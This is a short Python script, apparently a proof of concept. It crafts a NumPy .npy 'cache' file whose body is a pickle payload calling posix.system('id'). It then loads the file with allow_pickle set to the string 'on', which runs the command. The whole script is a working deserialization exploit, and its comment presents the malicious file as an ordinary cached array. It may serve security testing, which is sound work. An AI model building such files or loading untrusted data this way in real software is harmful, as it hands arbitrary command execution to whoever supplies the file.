import struct

import numpy as np

# A cached object array (written by an earlier job).
header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
header += " " * (63 - (10 + len(header)) % 64) + "\n"
payload = b"cposix\nsystem\n(S'id'\ntR."
with open("cache.npy", "wb") as fh:
    fh.write(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload)

try:
    arr = np.load("cache.npy", allow_pickle="on")
    print(arr)
except Exception as exc:
    print("cache unreadable:", type(exc).__name__)
